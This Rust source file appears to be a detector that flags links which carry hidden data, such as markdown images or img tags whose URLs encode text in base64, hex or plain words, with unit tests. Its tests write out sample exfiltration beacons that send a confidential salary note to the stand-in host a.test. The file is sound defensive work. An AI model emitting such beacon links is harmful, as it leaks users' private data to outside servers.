//! Links in any text that carry data with them: a picture that a reader's client loads tells its server what is in it.

use super::encoded::{says, unpercent};
use super::leaves::Leaf;
use super::shown;
use crate::policy::Finding;

/// Most links of one text that are looked at.
const MOST: usize = 64;
/// A value of a link that is longer than this, and has no place to be, is data.
const OPAQUE: usize = 256;
/// Of a signature or a session token even this is too much.
const SIGNED: usize = 2048;
/// Plain words in a link for a reader, and in one that is loaded unasked.
const WORDS: usize = 120;
const WORDS_LOADED: usize = 48;

/// The links of a text.
pub(super) fn check(leaf: &Leaf<'_>, value: &str, out: &mut Vec<Finding>) {
    for (link, loaded) in links(value).take(MOST) {
        if let Some(what) = carries(link, loaded) {
            out.push(Finding::at("url-carries-data", leaf.path, format!("{what}: {}", shown(link))));
            return;
        }
    }
}

/// The links of a text, and whether a client loads each by itself.
fn links(text: &str) -> impl Iterator<Item = (&str, bool)> {
    text.match_indices("//").filter_map(|(at, _)| {
        let before = &text[..at];
        let scheme = before.strip_suffix(':').map(|rest| {
            rest.len()
                - rest
                    .trim_end_matches(|c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
                    .len()
        });
        let start = match scheme {
            Some(0) => return None,
            Some(length) => at - 1 - length,
            // `![](//host/x)` and `src="//host/x"`
            None if before.ends_with(['(', '"', '\'']) => at,
            None => return None,
        };
        let rest = &text[start..];
        let end = rest.find(|c: char| {
            c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '`' | ')' | ']' | '|' | '}')
        });
        let link = rest[..end.unwrap_or(rest.len())].trim_end_matches(['.', ',', ';', ':', '!']);
        let lead = text[..start].trim_end_matches(['"', '\'', '<']);
        let picture = lead.ends_with("](")
            && lead.rfind("![").is_some_and(|open| !lead[open..].contains("](\n") && lead.len() - open < 300);
        let tag =
            ["src=", "srcset=", "background=", "url("].iter().any(|attribute| lead.ends_with(attribute));
        Some((link, picture || tag))
    })
}

/// What a link carries, in words.
fn carries(link: &str, loaded: bool) -> Option<&'static str> {
    let rest = link.split_once("//").map_or(link, |(_, rest)| rest);
    let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let (authority, tail) = rest.split_at(end);
    let host = authority.rsplit('@').next().unwrap_or(authority).split(':').next().unwrap_or(authority);
    if let Some(what) = host_carries(host) {
        return Some(what);
    }
    let (tail, fragment) = tail.split_once('#').unwrap_or((tail, ""));
    let (path, query) = tail.split_once('?').unwrap_or((tail, ""));
    let mut plain = 0;
    for segment in path.split(['/', ';']).filter(|segment| !segment.is_empty()) {
        if let Some(what) = piece(segment, "", loaded, &mut plain) {
            return Some(what);
        }
        // A name of a file may hide its ending behind the data.
        if let Some((stem, _)) = segment.rsplit_once('.')
            && let Some(what) = piece(stem, "", loaded, &mut plain)
        {
            return Some(what);
        }
    }
    for pair in query.split(['&', ';']).chain(fragment.split('&')).filter(|pair| !pair.is_empty()) {
        let (name, value) = pair.split_once('=').unwrap_or(("", pair));
        // Without a name, what base64 is filled up with looks like a sign between name and value.
        let value = if value.trim_matches('=').is_empty() { name } else { value };
        if let Some(what) = piece(value, name, loaded, &mut plain) {
            return Some(what);
        }
    }
    // Data in small pieces under many names, or spread over the path.
    if query.len() > 4 * OPAQUE && !query.to_ascii_lowercase().contains("signature") {
        return Some("a link with a very long query");
    }
    let joined: String = path.split('/').collect();
    (joined.len() >= 24 && says(&joined).is_some_and(|text| text.contains(' ')))
        .then_some("a link whose path spells encoded text")
}

/// Labels of a host that say something when they are put together.
fn host_carries(host: &str) -> Option<&'static str> {
    let labels: Vec<&str> = host.split('.').collect();
    let own = labels.len().saturating_sub(2);
    let labels = labels.get(..own)?;
    let long = |label: &&&str| label.len() >= 16;
    let single = labels.iter().filter(long).any(|label| says(label).is_some());
    let joined: String = labels.concat();
    if single || (labels.len() > 1 && joined.len() >= 24 && says(&joined).is_some()) {
        return Some("a link whose host spells encoded text");
    }
    (joined.len() > 120).then_some("a link with a very long host")
}

/// One value of a link. `plain` counts the words in clear over the whole link.
fn piece(raw: &str, name: &str, loaded: bool, plain: &mut usize) -> Option<&'static str> {
    if raw.len() < 12 {
        return None;
    }
    let value = unpercent(raw);
    let name = name.to_ascii_lowercase();
    // Lists of three parts with dots between are tokens signed by somebody.
    let token = value.matches('.').count() == 2 && value.starts_with("eyJ");
    if !token
        && value.len() >= 16
        && let Some(text) = says(&value)
    {
        let place = ["cursor", "after", "before", "page_token", "pagetoken", "continuation", "state", "next"];
        let cursor = place.contains(&name.as_str()) && text.len() < 120 && !text.contains(' ');
        if !cursor {
            return Some("a link with encoded text in it");
        }
    }
    let spaced = value.replace('+', " ");
    let words = spaced.split_whitespace().count();
    if words >= 4 {
        *plain += value.len();
        if *plain >= if loaded { WORDS_LOADED } else { WORDS } {
            return Some("a link with a whole text in it");
        }
        return None;
    }
    const SIGNS: &[&str] = &[
        "sig",
        "token",
        "policy",
        "key-pair-id",
        "x-amz-",
        "x-goog-",
        "expires",
        "hdnea",
        "credential",
        "code",
        "saml",
        "jwt",
        "assertion",
    ];
    let signed = SIGNS.iter().any(|sign| name.contains(sign)) || token;
    let most = if signed { SIGNED } else { OPAQUE };
    let opaque = !value.contains("://")
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_' | '=' | '.' | '~' | ','));
    // A slug is words with dashes between them.
    let slug = value.split(['-', '_']).all(|word| word.len() <= 24);
    (value.len() > most && opaque && !slug).then_some("a link with a very long opaque value")
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

    fn found(text: &str) -> bool {
        links(text).any(|(link, loaded)| carries(link, loaded).is_some())
    }

    #[test]
    fn beacons_are_found() {
        let note = "Salary of Ann: 90000, do not share";
        let hexed: String = note.bytes().map(|byte| format!("{byte:02x}")).collect();
        let plain = note.replace(' ', "%20");
        for text in [
            format!("![x](https://a.test/p.png?d={})", STANDARD.encode(note)),
            format!("see ![x](https://a.test/{}/p.png)", URL_SAFE_NO_PAD.encode(note)),
            format!("https://a.test/{}.png", URL_SAFE_NO_PAD.encode(note)),
            format!("https://a.test/?d={hexed}"),
            format!("https://{}.{}.a.test/x", &hexed[..40], &hexed[40..]),
            format!("<img src=\"//a.test/?d={}\">", STANDARD.encode(note)),
            format!("![x](https://a.test/p.png?d={plain}%20{plain})"),
            format!("https://a.test/?d={}", "x9Qz7Kp2".repeat(60)),
            format!("https://a.test/#{}", STANDARD.encode(note)),
            format!("https://a.test/?d={}", STANDARD.encode(note).replace('=', "%3D")),
        ] {
            assert!(found(&text), "{text}");
        }
    }

    #[test]
    fn plain_links_are_not() {
        for text in [
            "![diagram](https://docs.corp.test/img/architecture-overview-v2.png)",
            "https://git.test/a/b/commit/e83c5163316f89bfbde7d9ab23ca2e25604af290",
            "https://a.test/o/550e8400-e29b-41d4-a716-446655440000?size=large",
            "https://www.test/watch?v=dQw4w9WgXcQ&t=42s",
            "https://search.test/?q=how+to+write+a+good+parser+in+rust",
            "https://bucket.s3.test/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08&X-Amz-Expires=3600",
            "https://login.test/cb?code=4/P7q7W91a-oMsCeLvIaQm6bTrgtp7&state=xyz&redirect_uri=https%3A%2F%2Fapp.test%2Fcallback",
            "https://blog.test/2024/05/the-quick-brown-fox-jumps-over-the-lazy-dog-and-other-stories",
            "https://api.test/items?cursor=eyJpZCI6MTIzNDU2LCJkaXIiOiJuZXh0In0",
            "https://cdn.test/assets/main.9f86d081884c7d659a2f.js",
            "// a comment of a program",
            "C:\\\\x//y",
            "see a//b",
            "https://maps.test/?q=1600+Amphitheatre+Parkway,+Mountain+View",
        ] {
            assert!(!found(text), "{text}");
        }
    }
}
